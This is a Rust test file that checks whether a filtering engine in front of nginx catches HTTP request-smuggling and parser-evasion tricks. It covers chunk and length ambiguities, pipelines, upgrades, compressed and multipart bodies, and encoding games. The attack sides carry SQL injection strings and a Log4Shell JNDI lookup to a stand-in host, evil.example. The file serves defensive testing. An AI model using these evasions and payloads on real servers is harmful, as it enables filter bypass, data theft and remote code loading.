//! Tricks with which a client shows a filter other requests than the server reads, by the HTTP in its stream.
//!
//! Every trick is played four times: without the engine an attack and its benign twin must be answered by nginx, or the
//! trick is none; with the engine the twin must be answered as before, and the attack by the engine, for the reason that
//! is expected. Lengths beside chunks, obfuscated or repeated framing headers, folded lines, spaces before colons, chunk sizes
//! beyond 64 bits, CONNECT and authorities as targets nginx refuses by itself: `framing.rs` of filter-score has those.

use std::{io::Write as _, net::SocketAddr};

use anyhow::{Context as _, Result, bail, ensure};
use flate2::{Compression, write::GzEncoder};
use xtask::lab::RawTcp;

use crate::support::{
    SOON,
    engine::RunningEngine,
    site::{self, Site},
    trick::in_two_runs,
};

const SQL: &str = "1'+UNION+SELECT+password+FROM+users--";
const SALAD: &str = "1.+Onions+salad+with+pepper+and+oil..";
/// What only attacks have in their request lines.
const MARK: &str = "run=1";

const CLOSE: &str = "Connection: close\r\n";
const CHUNKED: &str = "Transfer-Encoding: chunked\r\n";
const FORM: &str = "Content-Type: application/x-www-form-urlencoded\r\n";

/// Failures are refused, and no source is blocked, so that every request is judged by itself.
const SETTINGS: [&str; 2] = ["engine.on_failure=drop", "reputation.threshold=1000000"];

/// Which side of a trick is played.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Side {
    Attack,
    Twin,
}

impl Side {
    fn pick<T>(self, attack: T, twin: T) -> T {
        match self {
            Self::Attack => attack,
            Self::Twin => twin,
        }
    }

    /// What the log tells the sides by.
    fn mark(self) -> &'static str {
        self.pick(MARK, "run=2")
    }

    fn value(self) -> &'static str {
        self.pick(SQL, SALAD)
    }

    fn target(self) -> String {
        format!("/1k?{}&id={}", self.mark(), self.value())
    }

    /// A request whose query is the attack; it ends the connection.
    fn get(self) -> String {
        format!("GET {} HTTP/1.1\r\nHost: lab\r\n{CLOSE}\r\n", self.target())
    }

    /// A request with a line of its own among the headers; it ends the connection.
    fn get_with(self, line: &str) -> String {
        format!(
            "GET /1k?{} HTTP/1.1\r\nHost: lab\r\n{line}\r\n{CLOSE}\r\n",
            self.mark()
        )
    }

    /// A request whose body follows; with `headers`, which end in CRLF.
    fn post(self, headers: &str, body: &str) -> String {
        format!(
            "POST /sink?{} HTTP/1.1\r\nHost: lab\r\n{headers}\r\n{body}",
            self.mark()
        )
    }

    /// A form whose field is the attack.
    fn form(self) -> String {
        format!("id={}", self.value())
    }
}

/// A request that only comes before the others.
fn post_before(headers: &str, body: &str) -> String {
    format!("POST /sink HTTP/1.1\r\nHost: lab\r\n{headers}\r\n{body}")
}

/// A trick: what is sent, how, and what is to come of it.
struct Case {
    name: String,
    /// What the engine's log says of the attack: a family, or a rule's id.
    sign: &'static str,
    sides: [Vec<u8>; 2],
    /// Bytes of a segment.
    segment: usize,
    /// How many answers each side has without the engine.
    answers: usize,
    /// The answer to the attack by which nginx refuses what stands before it, and reads on.
    refusal: Option<usize>,
}

/// Both sides of a trick, sent in as few segments as they have room in.
fn case<B: Into<Vec<u8>>>(name: impl Into<String>, sign: &'static str, bytes: impl Fn(Side) -> B) -> Case {
    Case {
        name: name.into(),
        sign,
        sides: [Side::Attack, Side::Twin].map(|side| bytes(side).into()),
        segment: 1400,
        answers: 1,
        refusal: None,
    }
}

impl Case {
    fn by(self, segment: usize) -> Self {
        Self { segment, ..self }
    }

    fn answers(self, each: usize) -> Self {
        Self {
            answers: each,
            ..self
        }
    }

    fn with_refusal(self, number: usize) -> Self {
        Self {
            refusal: Some(number),
            ..self
        }
    }

    fn send(&self, site: &Site, server: SocketAddr, side: Side) -> Result<RawTcp> {
        let mut client = RawTcp::connect(&site.lab, server)?;
        for segment in self.sides[side as usize].chunks(self.segment) {
            client.send(segment)?;
        }
        Ok(client)
    }

    /// nginx answers this side to the end.
    fn answered(&self, site: &Site, server: SocketAddr, side: Side) -> Result<()> {
        let context = || format!("{}: {side:?} to {server}", self.name);
        let mut client = self.send(site, server, side).with_context(context)?;
        for number in 0..self.answers {
            let answer = client.response(SOON).with_context(context)?;
            let refusal = side == Side::Attack && self.refusal == Some(number);
            ensure!(refusal != (answer.status == 200), "{}: {answer:?}", context());
        }
        Ok(())
    }

    /// The engine answers in nginx's place.
    fn refused(&self, site: &Site, server: SocketAddr) -> Result<()> {
        let context = || format!("{}: the attack to {server}", self.name);
        let mut client = self.send(site, server, Side::Attack).with_context(context)?;
        for _ in 0..self.answers {
            let answer = client
                .response(std::time::Duration::from_secs(5))
                .with_context(context)
                .with_context(|| {
                    client
                        .frames()
                        .iter()
                        .filter_map(|f| f.tcp())
                        .map(|t| {
                            format!(
                                "\n{:x} ack {:x} f {:x} len {} {:?}",
                                t.sequence,
                                t.acknowledgement,
                                t.flags,
                                t.payload.len(),
                                String::from_utf8_lossy(&t.payload[..t.payload.len().min(30)])
                            )
                        })
                        .collect::<String>()
                })?;
            if answer.status == 403 {
                return Ok(());
            }
        }
        bail!("{}: only nginx answered", context());
    }

    /// The engine's log has this many attacks, the last for the right reason.
    fn logged(&self, engine: &RunningEngine, attacks: usize) -> Result<()> {
        engine.wait_for_status("the block being counted", |status| {
            status.requests.block >= attacks as u64
        })?;
        let log = engine.log();
        let blocks: Vec<_> = log.lines().filter(|line| line.contains(" block ")).collect();
        let last = blocks.last().copied().unwrap_or_default();
        ensure!(
            blocks.len() == attacks && last.contains(self.sign),
            "{}: {attacks} attacks, and the last for {}: {blocks:#?}",
            self.name,
            self.sign
        );
        Ok(())
    }
}

/// Plays tricks over IPv4 and IPv6, without the engine and with it.
fn play(cases: &[Case]) -> Result<()> {
    let Some(site) = Site::plain()? else {
        return Ok(());
    };
    let servers = site::nginx();
    let without = || {
        for case in cases {
            for server in servers {
                case.answered(&site, server, Side::Attack)?;
                case.answered(&site, server, Side::Twin)?;
            }
        }
        Ok(cases.len() * servers.len())
    };
    let with = |engine: &RunningEngine| {
        let mut attacks = 0;
        for case in cases {
            for server in servers {
                case.answered(&site, server, Side::Twin)?;
                case.refused(&site, server)?;
                attacks += 1;
                case.logged(engine, attacks)?;
            }
        }
        Ok(())
    };
    in_two_runs(&site, MARK, &SETTINGS, without, with)
}

fn chunk(body: &str) -> String {
    format!("{:x}\r\n{body}\r\n", body.len())
}

/// A body in one chunk.
fn one_chunk(body: &str) -> String {
    chunk(body) + "0\r\n\r\n"
}

/// Headers of a form of chunks that ends the connection.
fn chunked_form() -> String {
    format!("{CHUNKED}{FORM}{CLOSE}")
}

/// Only one reading of these is right, and nginx has it: what follows the body is the next request.
#[test]
fn requests_behind_bodies_of_chunks() -> Result<()> {
    let headers = [
        "Transfer-Encoding: chunked",
        "tRANSFER-eNCODING: CHUNKED",
        "Transfer-Encoding:chunked  ",
        "X: y\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nContent_Length: 500",
    ];
    let cases = headers.map(|header| {
        case(header, "sqli", |side| {
            post_before(&format!("{header}\r\n"), "0\r\n\r\n") + &side.get()
        })
        .answers(2)
    });
    play(&cases)
}

#[test]
fn requests_behind_bodies_with_a_length() -> Result<()> {
    let headers = [
        "Content-Length: 4",
        "Content-Length:4 ",
        "Content-Length: 000004",
        "CONTENT-LENGTH: 4\r\nContent_Length: 500",
        "Content-Length: 4\r\nTransfer_Encoding: chunked",
    ];
    let cases = headers.map(|header| {
        case(header, "sqli", |side| {
            post_before(&format!("{header}\r\n"), "q=ab") + &side.get()
        })
        .answers(2)
    });
    play(&cases)
}

/// nginx ignores headers with an underscore, where targets behind it may read a hyphen.
#[test]
fn requests_behind_lengths_that_are_none() -> Result<()> {
    play(&[
        case("a length", "sqli", |side| {
            post_before("Content_Length: 200\r\n", "") + &side.get()
        })
        .answers(2),
        case("an empty line too many", "sqli", |side| {
            post_before("Content-Length: 4\r\n", "q=ab\r\n") + &side.get()
        })
        .answers(2),
    ])
}

#[test]
fn requests_behind_bodies_that_gets_have() -> Result<()> {
    let get = |headers: &str, body: &str| format!("GET /1k HTTP/1.1\r\nHost: lab\r\n{headers}\r\n{body}");
    play(&[
        case("a length", "sqli", |side| {
            get("Content-Length: 4\r\n", "q=ab") + &side.get()
        })
        .answers(2),
        case("chunks", "sqli", |side| {
            get(CHUNKED, &one_chunk("q=ab")) + &side.get()
        })
        .answers(2),
        case("the attack in the body", "sqli", |side| {
            let body = side.form();
            let length = body.len();
            format!(
                "GET /1k?{} HTTP/1.1\r\nHost: lab\r\n{FORM}{CLOSE}Content-Length: {length}\r\n\r\n{body}",
                side.mark()
            )
        }),
    ])
}

#[test]
fn bodies_in_unusual_chunks() -> Result<()> {
    let padded = |side: Side| format!("{}{}", side.form(), "a".repeat(0xab - side.form().len()));
    play(&[
        case("one byte each", "sqli", |side| {
            let chunks: String = side.form().chars().map(|byte| chunk(&byte.to_string())).collect();
            side.post(&chunked_form(), &format!("{chunks}0\r\n\r\n"))
        }),
        case("leading zeros", "sqli", |side| {
            let body = side.form();
            side.post(
                &chunked_form(),
                &format!("{:012x}\r\n{body}\r\n000\r\n\r\n", body.len()),
            )
        }),
        case("capitals", "sqli", |side| {
            side.post(&chunked_form(), &format!("AB\r\n{}\r\n0\r\n\r\n", padded(side)))
        }),
        case("both cases", "sqli", |side| {
            side.post(&chunked_form(), &format!("aB\r\n{}\r\n0\r\n\r\n", padded(side)))
        }),
    ])
}

#[test]
fn chunk_extensions() -> Result<()> {
    let extended = |side: Side, extension: &str| {
        let body = side.form();
        let size = body.len();
        side.post(
            &chunked_form(),
            &format!("{size:x}{extension}\r\n{body}\r\n0{extension}\r\n\r\n"),
        )
    };
    let plain = [";", ";a", ";a=b;c=d", ";a=\"b;c\""];
    let mut cases: Vec<_> = plain
        .iter()
        .map(|extension| case(*extension, "sqli", |side| extended(side, extension)))
        .collect();
    // nginx takes the LF for the end of the line, others do not.
    cases.push(
        case("LF in an extension", "900360", |side| {
            let end = side.pick("\n", "\r\n");
            post_before(CHUNKED, &format!("2;{end}xx\r\n0\r\n\r\n")) + &side.get()
        })
        .answers(2),
    );
    cases.push(case("longer than allowed", "900360", |side| {
        let length = side.pick(300, 200);
        let extension = format!(";a={}", "b".repeat(length));
        side.post(&chunked_form(), &format!("2{extension}\r\nxx\r\n0\r\n\r\n"))
    }));
    play(&cases)
}

/// What nginx forgives and others do not, in either direction.
#[test]
fn chunks_that_are_not_quite() -> Result<()> {
    let table = [
        ("space behind the size", "2 \r\nxx\r\n0\r\n\r\n"),
        ("tab behind the size", "2\t\r\nxx\r\n0\r\n\r\n"),
        ("space before an extension", "2 ;a=b\r\nxx\r\n0\r\n\r\n"),
        (
            "forty digits",
            "0000000000000000000000000000000000000002\r\nxx\r\n0\r\n\r\n",
        ),
        ("LF behind the size", "2\nxx\r\n0\r\n\r\n"),
        ("LF behind the data", "2\r\nxx\n0\r\n\r\n"),
        ("LF behind the last size", "2\r\nxx\r\n0\n\r\n"),
        ("LF everywhere", "2\nxx\n0\n\n"),
    ];
    let cases = table.map(|(name, body)| {
        case(name, "900360", |side| {
            side.post(&chunked_form(), side.pick(body, "2\r\nxx\r\n0\r\n\r\n"))
        })
    });
    play(&cases)
}

#[test]
fn trailers() -> Result<()> {
    let trailed = |side: Side, trailer: &str| {
        side.post(
            &chunked_form(),
            &format!("{}0\r\n{trailer}\r\n\r\n", chunk("q=a")),
        )
    };
    let mut cases = vec![
        case("an attack in one", "sqli", |side| {
            trailed(side, &format!("X-Note: {}", side.value().replace('+', " ")))
        }),
        case("behind LF alone", "sqli", |side| {
            let body = format!("{}0\r\nX-Note: a\n\n", chunk("q=a"));
            post_before(CHUNKED, &body) + &side.get()
        })
        .answers(2),
    ];
    let table = [
        ("Content-Length: 5", "900380"),
        ("Transfer-Encoding: chunked", "900380"),
        ("Host: other", "900380"),
        ("X-Note : a", "900250"),
        (" X-Note: a", "900240"),
        ("none", "900260"),
    ];
    cases.extend(table.map(|(trailer, sign)| {
        case(trailer, sign, |side| {
            trailed(side, side.pick(trailer, "X-Checksum: 5"))
        })
    }));
    play(&cases)
}

#[test]
fn line_feeds_without_carriage_returns() -> Result<()> {
    play(&[
        case("everywhere", "sqli", |side| side.get().replace("\r\n", "\n")),
        case("behind the request line", "sqli", |side| {
            side.get().replacen("\r\n", "\n", 1)
        }),
        case("at the end of a head", "sqli", |side| {
            let first = "GET /1k HTTP/1.1\r\nHost: lab\r\nX: y\n\r\n";
            first.to_owned() + &side.get()
        })
        .answers(2),
        case("at the end of a head, twice", "sqli", |side| {
            let first = "GET /1k HTTP/1.1\r\nHost: lab\r\nX: y\n\n";
            first.to_owned() + &side.get()
        })
        .answers(2),
    ])
}

/// nginx passes over lines that are no headers to it, and other servers read them.
#[test]
fn lines_that_nginx_passes_over() -> Result<()> {
    let table = [
        ("no colon", "Transfer-Encoding-chunked", "900260"),
        ("parentheses", "X(y): z", "900260"),
        ("above ASCII", "X\u{e9}: z", "900260"),
        ("two CRs", "X: y\r", "900210"),
    ];
    let cases =
        table.map(|(name, line, sign)| case(name, sign, |side| side.get_with(side.pick(line, "X: z"))));
    play(&cases)
}

#[test]
fn targets_in_absolute_form() -> Result<()> {
    let origins = [
        "http://lab",
        "HTTP://LAB",
        "http://other.example:81",
        "http://[fd72::2]",
        "gopher://lab",
        "a+b-c.1://lab",
        "http://lab/x/..",
        "http://lab//",
    ];
    let mut cases: Vec<_> = origins
        .iter()
        .map(|origin| {
            case(*origin, "sqli", |side| {
                let target = format!("{origin}{}", side.target());
                format!("GET {target} HTTP/1.1\r\nHost: lab\r\n{CLOSE}\r\n")
            })
        })
        .collect();
    cases.push(case("only a query", "sqli", |side| {
        let query = side.target();
        let query = query.trim_start_matches("/1k");
        format!("GET http://lab{query} HTTP/1.1\r\nHost: lab\r\n{CLOSE}\r\n")
    }));
    cases.push(case("a fragment", "sqli", |side| {
        format!(
            "GET http://lab/1k?{}#?id={} HTTP/1.1\r\nHost: lab\r\n{CLOSE}\r\n",
            side.mark(),
            side.value()
        )
    }));
    play(&cases)
}

#[test]
fn unusual_request_lines() -> Result<()> {
    let line = |side: Side, start: &str, end: &str| {
        format!("{start}{}{end}\r\nHost: lab\r\n{CLOSE}\r\n", side.target())
    };
    play(&[
        case("HTTP/1.2", "sqli", |side| line(side, "GET ", " HTTP/1.2")),
        case("HTTP/1.01", "sqli", |side| line(side, "GET ", " HTTP/1.01")),
        case("HTTP/1.10", "sqli", |side| line(side, "GET ", " HTTP/1.10")),
        case("a space behind the version", "900110", |side| {
            line(side, "GET ", side.pick(" HTTP/1.1 ", " HTTP/1.1"))
        }),
        case("two spaces before the target", "900110", |side| {
            line(side, side.pick("GET  ", "GET "), " HTTP/1.1")
        }),
        case("two spaces behind the target", "900110", |side| {
            line(side, "GET ", side.pick("  HTTP/1.1", " HTTP/1.1"))
        }),
        case("two empty lines", "sqli", |side| {
            "\r\n\r\n".to_owned() + &side.get()
        }),
        case("line feeds", "sqli", |side| "\n\n\n".to_owned() + &side.get()),
        case("a CR", "sqli", |side| "\r".to_owned() + &side.get()),
        case("forty empty lines", "900100", |side| {
            "\r\n".repeat(side.pick(40, 8)) + &side.get()
        }),
    ])
}

#[test]
fn floods_of_headers() -> Result<()> {
    let lines = |count: usize| {
        (0..count)
            .map(|number| format!("X-{number}: y\r\n"))
            .collect::<String>()
    };
    // nginx takes four buffers of 8 KiB beside the first, of 1 KiB.
    let long = |length: usize| format!("X: {}", "y".repeat(length));
    play(&[
        case("many", "900410", |side| {
            side.get_with(lines(side.pick(200, 100)).trim_end())
        }),
        case("behind many", "log4shell", |side| {
            let value = side.pick("${jndi:ldap://evil.example/a}", "2.17");
            side.get_with(&format!("{}X-Api-Version: {value}", lines(100)))
        }),
        case("long", "900400", |side| {
            let lines = vec![long(side.pick(8180, 7000)); 4].join("\r\n");
            format!(
                "GET /1k?{} HTTP/1.1\r\nHost: lab\r\n{CLOSE}X-Fill: {}\r\n{lines}\r\n\r\n",
                side.mark(),
                "z".repeat(850)
            )
        }),
        case("behind long ones", "log4shell", |side| {
            let value = side.pick("${jndi:ldap://evil.example/a}", "2.17");
            let lines = vec![long(7000); 3].join("\r\n");
            side.get_with(&format!("{lines}\r\nX-Api-Version: {value}"))
        }),
    ])
}

/// A request that stands before others.
const FIRST: &str = "GET /1k HTTP/1.1\r\nHost: lab\r\n\r\n";

#[test]
fn pipelines() -> Result<()> {
    let pipeline = |side: Side| FIRST.repeat(9) + &side.get();
    let inside = |side: Side| {
        let kept = side.get().replace(CLOSE, "");
        FIRST.repeat(3) + &kept + &FIRST.repeat(3)
    };
    play(&[
        case("in one segment", "sqli", pipeline).answers(10),
        case("by 11 bytes", "sqli", pipeline).by(11).answers(10),
        case("by 41 bytes", "sqli", pipeline).by(41).answers(10),
        case("a request a segment", "sqli", pipeline)
            .by(FIRST.len())
            .answers(10),
        case("in the middle", "sqli", inside).answers(7),
        case("in the middle, by 13 bytes", "sqli", inside)
            .by(13)
            .answers(7),
        case("behind a body", "sqli", |side| {
            let body = post_before(&format!("{CHUNKED}{FORM}"), &one_chunk("q=a"));
            [FIRST, &body, FIRST, &side.get()].concat()
        })
        .answers(4),
    ])
}

const WEBSOCKET: &str = "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n\
    Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n";

/// nginx serves files here and upgrades nothing: what follows is requests, whatever stands before the first.
#[test]
fn requests_behind_an_upgrade_that_did_not_happen() -> Result<()> {
    let upgrade = |side: Side, between: &str| {
        format!(
            "GET /1k HTTP/1.1\r\nHost: lab\r\n{WEBSOCKET}\r\n{between}{}",
            side.get()
        )
    };
    // Refused, and the connection kept.
    let unknown = format!("{} / HTTP/1.1\r\nHost: lab\r\n\r\n", "G".repeat(33));
    play(&[
        case("at once", "sqli", |side| upgrade(side, "")).answers(2),
        case("by 10 bytes", "sqli", |side| upgrade(side, ""))
            .by(10)
            .answers(2),
        case("behind an empty line", "sqli", |side| upgrade(side, "\r\n")).answers(2),
        case("behind 20 empty lines", "900100", |side| {
            upgrade(side, &"\r\n".repeat(side.pick(20, 8)))
        })
        .answers(2),
        case("behind 20 line feeds", "900100", |side| {
            upgrade(side, &"\n".repeat(side.pick(20, 16)))
        })
        .answers(2),
        case("behind a method that is none", "900100", |side| {
            upgrade(side, side.pick(&unknown, FIRST))
        })
        .answers(3)
        .with_refusal(1),
    ])
}

/// nginx ignores it and answers; who does not would speak HTTP/2 from then on, in which the engine does not read.
#[test]
fn upgrades_to_http2() -> Result<()> {
    let protocols = ["h2c", "H2C", "websocket, h2c", "foo/1,h2c"];
    let cases = protocols.map(|protocol| {
        case(protocol, "900290", |side| {
            let protocol = side.pick(protocol, "websocket");
            side.get_with(&format!(
                "Upgrade: {protocol}\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nConnection: Upgrade, HTTP2-Settings"
            ))
        })
    });
    play(&cases)
}

fn gzip(text: &str) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    // Writing to a vector does not fail.
    let _ = encoder.write_all(text.as_bytes());
    encoder.finish().unwrap_or_default()
}

/// A form with a length and these headers, in bytes that need not be text.
fn post_bytes(side: Side, headers: &str, body: &[u8]) -> Vec<u8> {
    let length = format!("{headers}{CLOSE}Content-Length: {}\r\n", body.len());
    [side.post(&length, "").as_bytes(), body].concat()
}

/// nginx hands bodies on as they are; what reads them decodes.
#[test]
fn compressed_bodies() -> Result<()> {
    let in_chunks = |side: Side, size: usize| {
        let mut bytes = side
            .post(&format!("Content-Encoding: gzip\r\n{}", chunked_form()), "")
            .into_bytes();
        for part in gzip(&side.form()).chunks(size) {
            bytes.extend(format!("{:x}\r\n", part.len()).bytes());
            bytes.extend(part);
            bytes.extend(b"\r\n");
        }
        bytes.extend(b"0\r\n\r\n");
        bytes
    };
    play(&[
        case("gzip", "sqli", |side| {
            post_bytes(
                side,
                &format!("{FORM}Content-Encoding: gzip\r\n"),
                &gzip(&side.form()),
            )
        }),
        case("x-gzip", "sqli", |side| {
            post_bytes(
                side,
                &format!("{FORM}content-encoding: X-GZIP\r\n"),
                &gzip(&side.form()),
            )
        }),
        case("gzip in chunks", "sqli", |side| in_chunks(side, 5)),
        case("gzip in chunks, by 3 bytes", "sqli", |side| in_chunks(side, 7)).by(3),
        case("not declared", "sqli", |side| {
            post_bytes(side, "", &gzip(&side.form()))
        }),
        case("declared, and plain", "900710", |side| {
            let coding = side.pick("Content-Encoding: gzip\r\n", "");
            post_bytes(side, &format!("{FORM}{coding}"), SALAD.as_bytes())
        }),
        case("cut off", "900715", |side| {
            let whole = gzip(&format!("id={}", SQL.replace('\'', "")));
            let length = side.pick(whole.len() - 12, whole.len());
            let body = side.pick(&whole[..length], &gzip(SALAD)).to_vec();
            post_bytes(side, &format!("{FORM}Content-Encoding: gzip\r\n"), &body)
        }),
    ])
}

const PARTS: &str = "--b\r\nContent-Disposition: form-data; name=\"id\"\r\n\r\nVALUE\r\n--b--\r\n";

#[test]
fn ambiguous_multipart_bodies() -> Result<()> {
    const USUAL: &str = "multipart/form-data; boundary=b";
    let value = |side: Side| side.value().replace('+', " ");
    let body = |side: Side| PARTS.replace("VALUE", &value(side));
    let send = |side: Side, media: &str, body: &str| {
        post_bytes(side, &format!("Content-Type: {media}\r\n"), body.as_bytes())
    };
    let mut cases = vec![
        case("well formed", "sqli", |side| send(side, USUAL, &body(side))),
        case("as a file", "sqli", |side| {
            let named = body(side).replace("\"id\"", "\"id\"; filename=\"a.txt\"");
            send(side, USUAL, &named)
        }),
        case("a quoted boundary", "sqli", |side| {
            send(side, "Multipart/Form-Data; Boundary=\"b\"", &body(side))
        }),
        case("two boundaries", "900500", |side| {
            let media = side.pick("multipart/form-data; boundary=a; boundary=b", USUAL);
            send(side, media, &PARTS.replace("VALUE", SALAD))
        }),
        case("no boundary", "900500", |side| {
            send(
                side,
                side.pick("multipart/form-data", USUAL),
                &PARTS.replace("VALUE", SALAD),
            )
        }),
    ];
    // What is put into the usual body, by which readers find other parts, names or values in it.
    let table = [
        ("LF alone", "\r\n\r\nVALUE", "\n\nVALUE", "900505"),
        ("a delimiter that goes on", "VALUE", "a\r\n--bc\r\nb", "900510"),
        (
            "a header without a colon",
            "\r\n\r\nVALUE",
            "\r\nX\r\n\r\nVALUE",
            "900515",
        ),
        ("a folded header", "; name", ";\r\n name", "900520"),
        ("two names", "name=", "name=\"a\"; name=", "900520"),
        ("no name", "; name=\"id\"", "", "900520"),
        (
            "two dispositions",
            "\r\n\r\nVALUE",
            "\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\nVALUE",
            "900520",
        ),
    ];
    cases.extend(table.map(|(name, usual, odd, sign)| {
        case(name, sign, |side| {
            let parts = side.pick(PARTS.replacen(usual, odd, 1), PARTS.to_owned());
            send(side, USUAL, &parts.replace("VALUE", SALAD))
        })
    }));
    play(&cases)
}

fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

#[test]
fn charsets_and_codings_of_characters() -> Result<()> {
    let send =
        |side: Side, media: &str, body: &[u8]| post_bytes(side, &format!("Content-Type: {media}\r\n"), body);
    let query = |side: Side, attack: &str, twin: &str| {
        let value = side.pick(attack, twin);
        format!(
            "GET /1k?{}&id={value} HTTP/1.1\r\nHost: lab\r\n{CLOSE}\r\n",
            side.mark()
        )
    };
    let mut cases: Vec<_> = ["utf-16", "UTF-7", "\"utf-32\"", "ibm037"]
        .iter()
        .map(|charset| {
            case(*charset, "900605", |side| {
                let charset = side.pick(*charset, "utf-8");
                send(
                    side,
                    &format!("text/plain; charset={charset}"),
                    "Grüße".as_bytes(),
                )
            })
        })
        .collect();
    cases.extend([
        case("UTF-16 that is not declared", "900605", |side| {
            let text = format!("{{\"id\": \"{}\"}}", SALAD);
            let body = side.pick(utf16(&text), text.into_bytes());
            send(side, "application/json", &body)
        }),
        case("percent of percent", "sqli", |side| {
            query(
                side,
                "1%2527%2520union%2520select%2520password%2520from%2520users",
                "100%2525",
            )
        }),
        case("percent u", "sqli", |side| {
            query(side, "1%u0027+union+select+password+from+users", "%u00e9t%u00e9")
        }),
        case("overlong UTF-8", "sqli", |side| {
            query(side, "1%c0%a7+union+select+password+from+users", "caf%c3%a9")
        }),
        case("full width", "sqli", |side| {
            query(side, "1%ef%bc%87+union+select+password+from+users", "%ef%bc%a1")
        }),
        case("escapes of JSON", "sqli", |side| {
            let value = side.pick(
                "1\\u0027 \\u0055NION SELECT password FROM users",
                "Gr\\u00fc\\u00dfe",
            );
            send(
                side,
                "application/json",
                format!("{{\"id\": \"{value}\"}}").as_bytes(),
            )
        }),
    ]);
    play(&cases)
}

/// One answer and then the end, without a status: that of a server of HTTP/0.9.
fn old_answer(site: &Site, server: SocketAddr, side: Side) -> Result<Vec<u8>> {
    let mut client = RawTcp::connect(&site.lab, server)?;
    client.send(format!("GET {}\r\n", side.target()).as_bytes())?;
    client.wait_for_end(SOON)?;
    Ok(client.received().to_vec())
}

#[test]
fn requests_without_a_version() -> Result<()> {
    let Some(site) = Site::plain()? else {
        return Ok(());
    };
    let servers = site::nginx();
    let served = |server, side| -> Result<()> {
        let answer = old_answer(&site, server, side)?;
        ensure!(answer.len() == 1000, "{}", answer.escape_ascii());
        Ok(())
    };
    let without = || {
        for server in servers {
            served(server, Side::Attack)?;
            served(server, Side::Twin)?;
        }
        Ok(servers.len())
    };
    let with = |engine: &RunningEngine| {
        for server in servers {
            served(server, Side::Twin)?;
            let answer = old_answer(&site, server, Side::Attack)?;
            ensure!(answer.starts_with(b"HTTP/1.1 403"), "{}", answer.escape_ascii());
        }
        let status = engine.settled_status()?;
        ensure!(status.requests.families.get("sqli") == Some(&2), "{status:#?}");
        ensure!(engine.unscored("opaque")? > 0, "what follows is not scored");
        Ok(())
    };
    // What may follow such a request is not scored, so that it is the failure policy's matter.
    let settings = ["engine.on_failure=pass", SETTINGS[1]];
    in_two_runs(&site, MARK, &settings, without, with)?;

    let engine = RunningEngine::start(&site.lab, &SETTINGS)?;
    for server in servers {
        let answer = old_answer(&site, server, Side::Twin)?;
        ensure!(answer.is_empty(), "{}", answer.escape_ascii());
    }
    ensure!(engine.dropped("opaque")? > 0);
    engine.stop()
}
